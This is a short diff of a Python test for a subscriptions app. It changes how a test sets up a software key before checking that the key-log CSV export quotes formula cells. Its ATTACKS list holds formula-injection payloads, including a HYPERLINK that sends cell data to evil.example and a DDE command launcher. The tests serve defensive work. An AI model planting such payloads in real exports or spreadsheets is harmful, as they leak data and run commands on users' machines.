@@ -19,6 +19,7 @@ from persistence import db
 from subscriptions import services
 from subscriptions.models import Subscription
 from tests.conftest import login
+from tests.subscriptions.recorded_keys import record_test_key
 from tests.test_architecture import ROOT, python_files
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
@@ -101,8 +102,8 @@ def test_the_key_log_export_quotes_formula_cells(client, world):
                        family="perpetual_software", billing_cycle="one_time", quantity=1,
                        status="active")
     db.session.add(sub)
-    services.issue_software_key(sub)
     db.session.commit()
+    record_test_key(sub)
     services.reveal_key(sub, world.reseller_a_user, "-2+3")
     login(client, world.admin)
     response = client.get("/subscriptions/key-log?format=csv")
